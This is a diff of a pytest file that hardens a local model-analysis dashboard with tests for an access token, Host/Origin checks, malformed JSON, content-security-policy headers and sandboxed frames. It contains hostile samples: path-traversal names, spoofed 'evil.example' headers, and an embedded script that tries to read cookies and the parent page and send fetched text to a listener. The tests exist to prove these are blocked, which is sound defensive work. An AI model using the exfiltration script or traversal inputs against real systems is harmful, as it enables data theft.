@@ -1,12 +1,14 @@
 """The playground against `generate` and plain forward passes; the app in a real headless Chromium."""
 
+import hashlib
 import http.client
 import json
+import os
+import socket
 import threading
 import time
-import urllib.error
-import urllib.request
 from dataclasses import replace
+from urllib.parse import urlsplit
 
 import pytest
 import torch
@@ -121,6 +123,8 @@ def test_one_question_at_a_time(playground):
 
 # --- the app
 
+TOKEN = "nobody-guesses-this"
+
 
 @pytest.fixture(scope="module")
 def lock():
@@ -130,12 +134,12 @@ def lock():
 @pytest.fixture(scope="module")
 def app_url(subject, lock):
     live = pytest.importorskip("spd_lens.analysis.dashboard.server", reason="flask is not installed")
-    app = live.create_app([subject], lock)
+    app = live.create_app([subject], TOKEN, lock)
     with live.listen(0) as waiting:
         server = live.start(app, waiting)
         thread = threading.Thread(target=server.serve_forever, daemon=True)
         thread.start()
-        yield f"http://127.0.0.1:{server.port}"
+        yield f"http://127.0.0.1:{server.port}/{TOKEN}"
         server.shutdown()
         thread.join(timeout=10)
 
@@ -143,7 +147,7 @@ def app_url(subject, lock):
 @pytest.fixture(scope="module")
 def opened(chromium, app_url):
     watch = new_watch(chromium)
-    watch.page.goto(app_url)
+    watch.page.goto(f"{app_url}/")
     watch.page.wait_for_selector("#go")
     until(watch.page, "document.getElementById('rank-label').textContent.includes('of')")
     yield watch
@@ -153,7 +157,8 @@ def opened(chromium, app_url):
 @pytest.fixture
 def page(opened, app_url):
     yield opened.page
-    assert opened.errors == []
+    # a question that is refused is answered with status 400, which the browser notes
+    assert [error for error in opened.errors if "status of 400" not in error] == []
     assert all(url.startswith((app_url, "data:", "blob:")) for url in opened.requests)
 
 
@@ -245,32 +250,60 @@ def test_the_app_fits_the_screen(page, width):
     assert len(page.screenshot(full_page=True)) > 20_000
 
 
+def send(app_url, method, path, body=None, headers=()):
+    """Status, headers and text of the answer to a request, whatever it is."""
+    connection = http.client.HTTPConnection("127.0.0.1", urlsplit(app_url).port, timeout=20)
+    connection.request(method, path, body, dict(headers))
+    answer = connection.getresponse()
+    text = answer.read().decode()
+    connection.close()
+    return answer.status, answer.headers, text
+
+
+JSON = {"Content-Type": "application/json"}
+ASKED = {
+    "run": "alpha", "prompt": PROMPT, "layers": [1], "kinds": ["k"], "form": "head", "rank": 2, "strength": 1,
+    "tokens": 5, "temperature": 0, "seed": 1, "also": [],
+}  # fmt: skip
+
+
 @pytest.mark.parametrize(
-    ("headers", "status"),
+    ("headers", "allowed"),
     [
-        ({}, 200),
-        ({"Host": "localhost:PORT"}, 200),
-        ({"Host": "evil.example"}, 403),
-        ({"Host": "127.0.0.1.evil.example:PORT"}, 403),
-        ({"Origin": "http://evil.example"}, 403),
-        ({"Origin": "null"}, 403),
-        ({"Origin": "http://127.0.0.1:PORT"}, 200),
+        ({}, True),
+        ({"Host": "localhost:PORT"}, True),
+        ({"Host": "evil.example"}, False),
+        ({"Host": "127.0.0.1.evil.example:PORT"}, False),
+        ({"Host": "[::1"}, False),
+        ({"Origin": "http://evil.example"}, False),
+        ({"Origin": "null"}, False),
+        ({"Origin": "http://[::1"}, False),
+        ({"Origin": "http://127.0.0.1:PORT"}, True),
     ],
 )
-def test_only_this_machines_own_pages_are_answered(app_url, headers, status):
-    port = app_url.rsplit(":", 1)[1]
-    sent = {name: value.replace("PORT", port) for name, value in headers.items()}
-    for method, path in (("GET", "/"), ("GET", "/analysis/alpha/rank_sweep.html"), ("POST", "/generate")):
-        connection = http.client.HTTPConnection("127.0.0.1", int(port), timeout=20)
-        body = "{}" if method == "POST" else None
-        connection.request(method, path, body, {"Content-Type": "application/json", **sent})
-        answer = connection.getresponse()
-        assert answer.status == status, path
-        if status == 403:
-            assert len(answer.read()) < 200
-        else:
-            assert "frame-ancestors 'self'" in answer.headers["Content-Security-Policy"]
-        connection.close()
+def test_only_this_machines_own_pages_are_answered(app_url, headers, allowed):
+    sent = {name: value.replace("PORT", str(urlsplit(app_url).port)) for name, value in headers.items()}
+    places = {"/": 200, "/analysis/alpha/rank_sweep.html": 200, "/frames/alpha/rank_sweep.html": 200, "/generate": 400}
+    for path, status in places.items():
+        method, body = ("POST", "{}") if path == "/generate" else ("GET", None)
+        found, answered, text = send(app_url, method, f"/{TOKEN}{path}", body, JSON | sent)
+        assert found == (status if allowed else 403), path
+        framed = "'self'" if path.startswith("/frames") and allowed else "'none'"
+        assert answered["Content-Security-Policy"].endswith(f"frame-ancestors {framed}")
+        assert allowed or (len(text) < 200 and "Traceback" not in text)
+
+
+@pytest.mark.parametrize("path", ["/", "/x/", "//", "/analysis/alpha/rank_sweep.html", f"/{TOKEN}x/", "/%ff%fe/", "*"])
+def test_who_does_not_know_the_token_learns_nothing(app_url, path):
+    status, _, text = send(app_url, "GET", path)
+    assert status == 403 and "the address that its terminal shows" in text and TOKEN not in text
+
+
+def test_the_policy_of_a_page_is_sent_ahead_of_it(app_url):
+    _, headers, html = send(app_url, "GET", f"/{TOKEN}/")
+    policy = headers["Content-Security-Policy"]
+    assert policy.startswith("default-src 'none'; script-src 'sha256-") and "unsafe-eval" not in policy
+    assert f'content="{policy.removesuffix("; frame-ancestors " + chr(39) + "none" + chr(39))}"' in html
 
 
 @pytest.mark.parametrize(
@@ -278,42 +311,135 @@ def test_only_this_machines_own_pages_are_answered(app_url, headers, status):
     [
         ({"run": "nobody"}, "there is no run"),
         ({"run": ["alpha"]}, "there is no run"),
+        ({"run": "x" * 900_000}, "there is no run"),
         ({"prompt": 5}, "prompt is empty"),
+        ({"prompt": "half \ud800"}, "half a character"),
         ({"layers": None}, "no layer is chosen"),
+        ({"layers": [[1]]}, "layers is [[1]]"),
+        ({"layers": [1e400]}, "layers is"),
+        ({"layers": {"1": 1}}, "layers is"),
+        ({"kinds": ["k", {}]}, "kinds is"),
         ({"rank": "<b>"}, "rank is <b>"),
+        ({"rank": "x" * 900_000}, "rank is xxx"),
+        ({"rank": float("nan")}, "rank nan"),
+        ({"strength": float("inf")}, "strength is inf"),
         ({"tokens": 10.5}, "max new tokens is 10.5"),
         ({"temperature": None}, "temperature is empty"),
-        ({"also": 5}, "the generation failed"),
+        ({"also": 5}, "also is 5"),
+        ({"also": [5]}, "unknown policy 5"),
     ],
 )
-def test_what_a_form_cannot_send_is_refused_in_words_too(app_url, change, words):
-    asked = {
-        "run": "alpha", "prompt": PROMPT, "layers": [1], "kinds": ["k"], "form": "head", "rank": 2, "strength": 1,
-        "tokens": 5, "temperature": 0, "seed": 1, "also": [],
-    }  # fmt: skip
-    body, headers = json.dumps(asked | change).encode(), {"Content-Type": "application/json"}
-    with urllib.request.urlopen(urllib.request.Request(f"{app_url}/generate", body, headers)) as answer:
-        assert words in json.load(answer)["error"]
+def test_what_a_form_cannot_send_is_refused_in_words_too(app_url, change, words, caplog):
+    status, _, text = send(app_url, "POST", f"/{TOKEN}/generate", json.dumps(ASKED | change), JSON)
+    assert status == 400 and words in json.loads(text)["error"] and len(text) < 400
+    assert not caplog.records
 
 
-@pytest.mark.parametrize(("kind", "body"), [("text/plain", b"{}"), ("application/json", b"no json")])
-def test_only_json_is_a_question(app_url, kind, body):
-    with urllib.request.urlopen(urllib.request.Request(f"{app_url}/generate", body, {"Content-Type": kind})) as answer:
-        assert "there is no run" in json.load(answer)["error"]
+@pytest.mark.parametrize(
+    ("kind", "body", "status"),
+    [
+        ("text/plain", "{}", 400),
+        ("application/json", "no json", 400),
+        ("application/json", b"\xff\xfe", 400),
+        ("application/json", "[" * 200_000, 400),
+        ("application/json", '{"rank": ' + "9" * 5000 + "}", 400),
+        ("application/json", "7", 400),
+        ("application/json", " " * 1_000_001, 413),
+    ],
+)
+def test_only_json_is_a_question(app_url, kind, body, status, caplog):
+    found, _, text = send(app_url, "POST", f"/{TOKEN}/generate", body, {"Content-Type": kind})
+    assert found == status and len(text) < 200 and "Traceback" not in text
+    assert not caplog.records
 
 
-def test_saved_pages_are_served_by_name_alone(app_url):
-    def get(path):
-        try:
-            with urllib.request.urlopen(f"{app_url}/analysis/{path}") as answer:
-                return answer.status, answer.read().decode()
-        except urllib.error.HTTPError as error:
-            return error.code, ""
+@pytest.mark.parametrize(
+    ("method", "path"), [("GET", "/generate"), ("PUT", "/"), ("GET", "/analysis/"), ("GET", "/../")]
+)
+def test_what_the_app_does_not_do_is_said_in_a_sentence(app_url, method, path):
+    status, headers, text = send(app_url, method, f"/{TOKEN}{path}")
+    assert status in (404, 405) and text.startswith("this app does not answer that") and "html" not in text
+    assert headers["Content-Security-Policy"] == "default-src 'none'; frame-ancestors 'none'"
 
-    assert get("alpha/rank_sweep.html") == (200, "<!DOCTYPE html><title>sweep</title>ranks")
-    assert get("alpha/rank_sweep.csv")[0] == get("beta/rank_sweep.html")[0] == 404
-    for path in ("alpha/../config.yaml", "alpha/..%2fconfig.yaml", "alpha/%2e%2e%2fconfig.yaml"):
-        assert "n_calibration" not in get(path)[1]
+
+def saved(app_url, name, run="alpha", **headers):
+    return send(app_url, "GET", f"/{TOKEN}/frames/{run}/{name}", headers={"Sec-Fetch-Dest": "iframe"} | headers)
+
+
+def test_saved_pages_are_served_by_name_alone(app_url, subject, tmp_path):
+    status, headers, text = saved(app_url, "rank_sweep.html")
+    assert (status, text) == (200, "<!DOCTYPE html><title>sweep</title>ranks")
+    assert headers["Content-Security-Policy"].startswith("sandbox allow-scripts; default-src 'none'; ")
+    assert saved(app_url, "rank_sweep.csv")[0] == saved(app_url, "rank_sweep.html", "beta")[0] == 404
+    for name in ("..", "..%2fconfig.yaml", "%2e%2e%2fconfig.yaml", "..%2fsummary.md", "%00.html", ".html"):
+        assert saved(app_url, name)[0] == 404, name
+    (tmp_path / "secret.html").write_text("secret")
+    os.mkfifo(subject.folder / "pipe.html")
+    (subject.folder / "link.html").symlink_to(tmp_path / "secret.html")
+    (subject.folder / "folder.html").mkdir()
+    for name in ("link.html", "folder.html", "pipe.html"):
+        status, _, text = saved(app_url, name)
+        assert status == 404 and "secret" not in text, name
+    alone = send(app_url, "GET", f"/{TOKEN}/frames/alpha/rank_sweep.html", headers={"Sec-Fetch-Dest": "document"})
+    assert alone[0] == 404 and "in a frame alone" in alone[2]
+
+
+@pytest.mark.parametrize(
+    ("manifest", "status"),
+    [
+        ('{"files": {"run.json": {"sha256": "0"}}}', 200),  # one that lists no analyses
+        ('{"files": {"analysis/rank_sweep.html": {"sha256": "SHA256"}}}', 200),
+        ('{"files": {"analysis/rank_sweep.html": {"sha256": "0"}}}', 404),
+        ('{"files": {"analysis/other.html": {"sha256": "SHA256"}}}', 404),
+        ('{"files": {"analysis/rank_sweep.html": 7}}', 404),
+        ('{"files": 7}', 404),
+        ("[]", 404),
+        ("[" * 100_000, 404),
+    ],
+)
+def test_a_page_that_was_changed_is_not_shown(app_url, subject, manifest, status):
+    digest = hashlib.sha256((subject.folder / "rank_sweep.html").read_bytes()).hexdigest()
+    path = subject.run.path / "manifest.json"
+    path.write_text(manifest.replace("SHA256", digest))
+    found, _, text = saved(app_url, "rank_sweep.html")
+    path.unlink()
+    assert found == status and ("manifest.json" in text) == (status == 404)
+
+
+EVIL = """<!DOCTYPE html><title>evil</title><p id=ran>not run</p>
+<a href="http://127.0.0.1:PORT/leak">away</a><script>
+const leak = "http://127.0.0.1:PORT/leak", local = "/TOKEN/frames/alpha/rank_sweep.html";
+const said = [];
+const tried = (name, attempt) => { try { attempt(); said.push(name); } catch { } };
+fetch(local).then((answer) => answer.text()).then((text) => { new Image().src = leak + text; }).catch(() => 0);
+fetch("/TOKEN/generate", {method: "POST", body: "{}"}).then(() => said.push("generate")).catch(() => 0);
+new Image().src = leak; navigator.sendBeacon(leak, "x");
+tried("parent", () => parent.document.body.innerHTML);
+tried("storage", () => localStorage.length);
+tried("cookie", () => document.cookie);
+tried("window", () => window.open(leak).focus());
+tried("top", () => { top.location = leak; });
+setTimeout(() => { document.getElementById("ran").textContent = "ran: " + said; LEAVE }, 300);
+</script>"""
+
+
+@pytest.mark.parametrize("leave", ["", "location = leak;", "document.querySelector('a').click();"])
+def test_a_strangers_page_runs_without_an_origin_and_sends_nothing(watch, app_url, subject, leave):
+    with socket.create_server(("127.0.0.1", 0)) as leak:
+        leak.settimeout(0.2)
+        page = EVIL.replace("PORT", str(leak.getsockname()[1])).replace("TOKEN", TOKEN).replace("LEAVE", leave)
+        (subject.folder / "evil.html").write_text(page, encoding="utf-8")
+        watch.page.goto(f"{app_url}/frames/alpha/evil.html")
+        assert "in a frame alone" in watch.page.content()
+        watch.page.goto(f"{app_url}/analysis/alpha/evil.html")
+        if not leave:
+            ran = watch.page.frames[1].wait_for_selector("#ran:has-text('ran:')")
+            assert ran.inner_text().strip() == "ran:"
+        watch.page.wait_for_timeout(1500)
+        assert watch.page.url == f"{app_url}/analysis/alpha/evil.html"
+        with pytest.raises(TimeoutError):
+            leak.accept()
+    (subject.folder / "evil.html").unlink()
 
 
 def test_it_listens_to_this_machine_alone_and_names_a_taken_port():
